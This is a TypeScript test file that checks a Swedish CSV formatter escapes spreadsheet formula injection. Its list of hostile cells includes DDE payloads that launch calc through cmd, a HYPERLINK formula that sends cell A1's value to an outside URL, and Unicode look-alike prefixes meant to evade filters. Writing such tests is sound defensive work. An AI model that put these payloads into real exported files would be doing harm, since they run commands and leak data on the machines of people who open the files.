import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type CsvCell, formatCsvRow } from "#core/domain/csv/swedish-csv.ts";
import { startsFormula } from "#core/domain/csv/starts-formula.ts";

const readBack = (row: string): string[] => parse(row, { delimiter: ";", relax_column_count: true })[0] ?? [];
const cell = (value: CsvCell) => readBack(formatCsvRow([value, "x"]))[0] ?? "";

const HOSTILE = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1;"Klicka")',
  "+46 8 718 80 00",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1;2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u202e=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  "﹦1+1",
  "﹢1",
  "﹣1+1",
  "﹫SUM(1)",
  "⁼1",
  "⁺1",
  "⁻1+1",
  "−1+1",
];

// What breaks a cell or begins a formula, among ordinary letters.
const hostileText = fc.string({
  unit: fc.constantFrom(..."=+-@＝−\t\r\n;\"', 0127aåÖ\u00a0\u200b\ufeff\u202e🙂"),
});

describe("a row of a Swedish CSV file", () => {
  it("has semicolons, decimal comma, ja and nej, and nothing for what is missing", () => {
    expect(formatCsvRow(["Älta", 1234.5, -0.25, true, false, null])).toBe("Älta;1234,5;-0,25;ja;nej;\r\n");
  });

  it("writes every number so that Swedish Excel reads a number", () => {
    const written = [0, -0, 1e-7, 123456789, 0.1 + 0.2, 1 / 3].map(cell);
    expect(written).toEqual([
      "0",
      "0",
      "0,0000001",
      "123456789",
      "0,30000000000000004",
      "0,3333333333333333",
    ]);
    expect([Number.NaN, Number.POSITIVE_INFINITY].map(cell)).toEqual(["", ""]);
  });

  it.each(HOSTILE)("keeps a spreadsheet from running %j", (text) => {
    const read = cell(text);
    expect(startsFormula(read)).toBe(false);
    expect(read).toBe(`'${text}`);
  });

  it("lets numbers, dates and plain words be, also with a sign inside", () => {
    for (const text of ["-5", "-12,75", "2026-11-23", "Nacka–Boo", "a=b", "'sextonhundratal", "–", "#1"]) {
      expect(cell(text)).toBe(text);
    }
  });

  it("gives any cells back whole, whatever they hold, and none of them starts a formula", () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 2, maxLength: 5 }), (cells) => {
        expect(readBack(formatCsvRow(cells))).toEqual(
          cells.map((text) => (startsFormula(text) && !isNumber(text) ? `'${text}` : text)),
        );
      }),
      { numRuns: 300 },
    );
  });
});

const isNumber = (text: string) => /^-?\d+(?:,\d+)?$/.test(text);
